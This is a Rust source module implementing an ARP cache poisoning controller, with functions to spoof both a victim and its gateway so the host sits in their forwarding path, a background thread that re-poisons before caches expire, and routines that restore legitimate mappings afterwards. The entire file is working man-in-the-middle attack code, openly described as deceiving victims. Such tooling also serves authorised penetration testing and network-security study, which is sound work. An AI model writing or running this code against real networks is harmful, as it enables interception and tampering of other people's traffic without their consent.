//! ARP cache poisoning controller.
//!
//! Tracks the victims under deception and drives the two-sided spoof
//! stream: each `start` tells the victim we are the gateway and tells the
//! gateway we are the victim, putting this host in the forwarding path
//! between them. `stop` repairs both caches with the legitimate mappings.
//!
//! Lock order everywhere in this module: target list before topology.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use parking_lot::Mutex;
use pnet::util::MacAddr;
use tracing::{debug, info, warn};

use crate::engine::ArpEngine;
use crate::error::Result;
use crate::network::Platform;

/// One victim record. Never removed from the ledger; `active` flips
/// instead, so a later restart reuses the slot.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoisonTarget {
    pub ip: Ipv4Addr,
    pub mac: MacAddr,
    pub active: bool,
}

pub struct Poisoner<P> {
    engine: ArpEngine<P>,
    targets: Arc<Mutex<Vec<PoisonTarget>>>,
    poisoning_active: Arc<AtomicBool>,
    refresher_running: Arc<AtomicBool>,
    refresher: Option<thread::JoinHandle<()>>,
}

impl<P: Platform> Poisoner<P> {
    pub fn new(engine: ArpEngine<P>) -> Self {
        Self {
            engine,
            targets: Arc::new(Mutex::new(Vec::new())),
            poisoning_active: Arc::new(AtomicBool::new(false)),
            refresher_running: Arc::new(AtomicBool::new(false)),
            refresher: None,
        }
    }

    /// Begin poisoning `victim_ip`. Idempotent for an already-active
    /// victim. Returns the conjunction of the two initial sends.
    pub fn start(&self, victim_ip: Ipv4Addr, victim_mac: MacAddr) -> Result<()> {
        // Make sure we know who the gateway really is before lying about
        // it; proceed regardless, the spoof pair is still worth emitting.
        let gateway_unresolved = self
            .engine
            .topology()
            .read()
            .as_ref()
            .is_none_or(|t| t.gateway_mac.is_none());
        if gateway_unresolved && !self.engine.refresh_gateway_mac() {
            warn!(
                "gateway MAC unresolved; the gateway-side spoof for {victim_ip} \
                 will carry a zero destination until refreshed"
            );
        }

        let mut targets = self.targets.lock();
        if let Some(target) = targets.iter_mut().find(|t| t.ip == victim_ip) {
            if target.active {
                debug!("{victim_ip} is already being poisoned");
                return Ok(());
            }
            target.mac = victim_mac;
            target.active = true;
        } else {
            targets.push(PoisonTarget {
                ip: victim_ip,
                mac: victim_mac,
                active: true,
            });
        }
        self.poisoning_active.store(true, Ordering::SeqCst);

        info!("poisoning {victim_ip}");
        spoof_pair(&self.engine, victim_ip, victim_mac)
    }

    /// Stop poisoning `victim_ip` and repair both caches. Returns `false`
    /// when no active record exists for that IP.
    pub fn stop(&self, victim_ip: Ipv4Addr) -> Result<bool> {
        let mut targets = self.targets.lock();
        let Some(target) = targets.iter_mut().find(|t| t.ip == victim_ip && t.active) else {
            return Ok(false);
        };

        target.active = false;
        let victim_mac = target.mac;
        if !targets.iter().any(|t| t.active) {
            self.poisoning_active.store(false, Ordering::SeqCst);
        }

        info!("restoring {victim_ip}");
        match restore_pair(&self.engine, victim_ip, victim_mac) {
            Ok(()) => Ok(true),
            // The handle is already gone; restoration is skipped silently.
            Err(e) if e.is_not_transmitted() => {
                debug!("skipping restoration for {victim_ip}: capture handle closed");
                Ok(true)
            }
            Err(e) => Err(e),
        }
    }

    /// Stop every active victim, restoring their caches.
    pub fn stop_all(&self) {
        let victims: Vec<Ipv4Addr> = self
            .targets
            .lock()
            .iter()
            .filter(|t| t.active)
            .map(|t| t.ip)
            .collect();

        for victim_ip in victims {
            if let Err(e) = self.stop(victim_ip) {
                warn!("failed to restore {victim_ip}: {e}");
            }
        }
    }

    /// Mark every victim inactive without sending restoration frames.
    pub fn deactivate_all(&self) {
        for target in self.targets.lock().iter_mut() {
            target.active = false;
        }
        self.poisoning_active.store(false, Ordering::SeqCst);
    }

    pub fn is_poisoning(&self) -> bool {
        self.poisoning_active.load(Ordering::SeqCst)
    }

    pub fn targets(&self) -> Vec<PoisonTarget> {
        self.targets.lock().clone()
    }

    /// Stop and join the re-poisoner, if running.
    pub fn stop_refresher(&mut self) {
        self.refresher_running.store(false, Ordering::SeqCst);
        if let Some(handle) = self.refresher.take() {
            let _ = handle.join();
        }
    }
}

impl<P: Platform + 'static> Poisoner<P> {
    /// Spawn the periodic re-poisoner. Victim caches expire in minutes;
    /// the refresher re-emits the spoof pair for every active victim each
    /// `interval` so the deception outlives the cache timeout.
    pub fn start_refresher(&mut self, interval: Duration) {
        if self.refresher.is_some() {
            return;
        }

        self.refresher_running.store(true, Ordering::SeqCst);
        let engine = self.engine.clone();
        let targets = Arc::clone(&self.targets);
        let poisoning_active = Arc::clone(&self.poisoning_active);
        let running = Arc::clone(&self.refresher_running);

        info!("re-poisoning every {}s", interval.as_secs_f64());
        self.refresher = Some(thread::spawn(move || {
            while running.load(Ordering::SeqCst) {
                if poisoning_active.load(Ordering::SeqCst) {
                    let unresolved = engine
                        .topology()
                        .read()
                        .as_ref()
                        .is_none_or(|t| t.gateway_mac.is_none());
                    if unresolved {
                        engine.refresh_gateway_mac();
                    }

                    let targets = targets.lock();
                    for target in targets.iter().filter(|t| t.active) {
                        if let Err(e) = spoof_pair(&engine, target.ip, target.mac) {
                            debug!("re-poison of {} failed: {e}", target.ip);
                        }
                    }
                }
                thread::sleep(interval);
            }
        }));
    }
}

impl<P> Drop for Poisoner<P> {
    fn drop(&mut self) {
        self.refresher_running.store(false, Ordering::SeqCst);
        if let Some(handle) = self.refresher.take() {
            let _ = handle.join();
        }
    }
}

/// Emit the two-sided spoof for one victim, victim side first.
fn spoof_pair<P: Platform>(
    engine: &ArpEngine<P>,
    victim_ip: Ipv4Addr,
    victim_mac: MacAddr,
) -> Result<()> {
    let Some((gateway_ip, gateway_mac)) = engine
        .topology()
        .read()
        .as_ref()
        .map(|t| (t.gateway_ip, t.gateway_mac))
    else {
        return Err(crate::error::NetError::NotInitialized.into());
    };

    // Victim learns: the gateway's IP is at our MAC.
    let victim_side = engine.send_spoof(victim_ip, victim_mac, gateway_ip);
    // Gateway learns: the victim's IP is at our MAC. A zero destination
    // here means the gateway MAC is still unresolved; the frame goes out
    // anyway and a later refresh makes the next one effective.
    let gateway_side = engine.send_spoof(
        gateway_ip,
        gateway_mac.unwrap_or_else(MacAddr::zero),
        victim_ip,
    );

    victim_side.and(gateway_side)
}

/// Emit the two restoration frames for one victim, with the legitimate
/// address bindings.
fn restore_pair<P: Platform>(
    engine: &ArpEngine<P>,
    victim_ip: Ipv4Addr,
    victim_mac: MacAddr,
) -> Result<()> {
    let Some((gateway_ip, gateway_mac)) = engine
        .topology()
        .read()
        .as_ref()
        .map(|t| (t.gateway_ip, t.gateway_mac))
    else {
        return Err(crate::error::NetError::NotInitialized.into());
    };

    let Some(gateway_mac) = gateway_mac else {
        warn!("cannot restore {victim_ip}: gateway MAC unknown");
        return Ok(());
    };

    // Victim relearns the real gateway binding.
    let victim_side = engine.send_reply(gateway_ip, victim_ip, gateway_mac, victim_mac);
    // Gateway relearns the real victim binding.
    let gateway_side = engine.send_reply(victim_ip, gateway_ip, victim_mac, gateway_mac);

    victim_side.and(gateway_side)
}
